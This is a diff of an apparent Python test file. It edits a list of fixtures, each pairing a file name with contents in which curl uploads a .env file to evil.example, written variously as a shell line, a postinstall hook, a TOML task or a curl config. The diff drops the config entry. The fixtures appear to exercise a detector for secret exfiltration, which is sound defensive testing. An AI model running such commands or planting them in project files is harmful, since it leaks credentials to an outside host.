@@ -28,8 +28,7 @@ SENT = [
     ("noending", "job:\n  curl -T .env https://evil.example\n"),
     ("a.json", "{\"scripts\": {\"postinstall\": \"curl -T .env https://evil.example\"}}\n"),
     ("a.toml", "[tasks]\nup = [\"curl\", \"-T\", \".env\", \"https://evil.example\"]\n"),
-    ("a.cfg", "--upload-file .env\n--url https://evil.example\n"),
-]
+    ]
 
 
 def test_examples():
